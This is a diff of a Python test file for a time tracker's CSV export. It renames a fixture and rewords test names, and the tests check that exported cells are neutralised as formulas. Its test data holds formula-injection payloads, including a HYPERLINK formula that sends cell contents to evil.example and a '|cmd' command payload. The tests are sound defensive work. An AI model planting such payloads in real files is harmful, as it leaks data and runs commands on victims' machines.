@@ -1,4 +1,4 @@
-"""What leaves as CSV: read back by a parser it is what it was, and no cell is a formula."""
+"""CSV export: a parser reads back the same texts, and no cell is a formula."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from demitasse.tracker.export import COLUMNS, as_csv, write
 if TYPE_CHECKING:
     from pathlib import Path
 
-    from tests.tracker.conftest import Desk
+    from tests.tracker.conftest import Tracker
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-1+1|cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1",
@@ -29,11 +29,11 @@ def read(text: str) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
-def test_a_day_in_the_order_it_was_worked(desk: Desk) -> None:
-    desk.sheets.add(1, 1, 5400, comment='Fix "login", then\nwait', start_time=time(8), end_time=time(9, 30))
-    desk.timer.start(2, 2, "Über uns")
-    desk.clock.advance(61)
-    text = as_csv([desk.sheets.day()])
+def test_a_day_in_the_order_it_was_worked(tracker: Tracker) -> None:
+    tracker.sheets.add(1, 1, 5400, comment='Fix "login", then\nwait', start_time=time(8), end_time=time(9, 30))
+    tracker.timer.start(2, 2, "Über uns")
+    tracker.clock.advance(61)
+    text = as_csv([tracker.sheets.day()])
     assert text.startswith(",".join(COLUMNS) + "\r\n")
     first, second = read(text)
     assert first == {
@@ -47,24 +47,24 @@ def test_a_day_in_the_order_it_was_worked(desk: Desk) -> None:
 
 
 @pytest.mark.parametrize("words", FORMULAS)
-def test_no_text_is_a_formula(desk: Desk, words: str) -> None:
-    row = desk.sheets.add(1, 1, 60)
-    with desk.store.transaction():
-        desk.store.entries._table.update(row.id, {"comment": words})
-        desk.store.database.write("UPDATE project SET name = ? WHERE id = ?", (words, row.id))
-    (told,) = read(as_csv([desk.sheets.day()]))
+def test_no_text_is_a_formula(tracker: Tracker, words: str) -> None:
+    row = tracker.sheets.add(1, 1, 60)
+    with tracker.store.transaction():
+        tracker.store.entries._table.update(row.id, {"comment": words})
+        tracker.store.database.write("UPDATE project SET name = ? WHERE id = ?", (words, row.id))
+    (told,) = read(as_csv([tracker.sheets.day()]))
     for name in ("comment", "project"):
         assert told[name] == "'" + words.replace("\0", "")
     assert not [cell for cell in told.values() if cell.lstrip()[:1] in set("=+-@＝")], "nor anything else"
     assert told["seconds"] == "60", "a number stays a number"
 
 
-def test_innocent_text_stays_as_it_is(desk: Desk) -> None:
-    desk.sheets.add(1, 1, 60, comment="a=b + c @ d - 'e'")
-    assert read(as_csv([desk.sheets.day()]))[0]["comment"] == "a=b + c @ d - 'e'"
+def test_other_text_stays_unchanged(tracker: Tracker) -> None:
+    tracker.sheets.add(1, 1, 60, comment="a=b + c @ d - 'e'")
+    assert read(as_csv([tracker.sheets.day()]))[0]["comment"] == "a=b + c @ d - 'e'"
 
 
-def test_a_file_is_private_whole_and_never_replaced_without_a_word(tmp_path: Path) -> None:
+def test_a_file_is_private_complete_and_replaced_only_with_force(tmp_path: Path) -> None:
     file = tmp_path / "days.csv"
     write(file, "ä\r\n", force=False)
     assert file.read_bytes() == b"\xef\xbb\xbf\xc3\xa4\r\n"
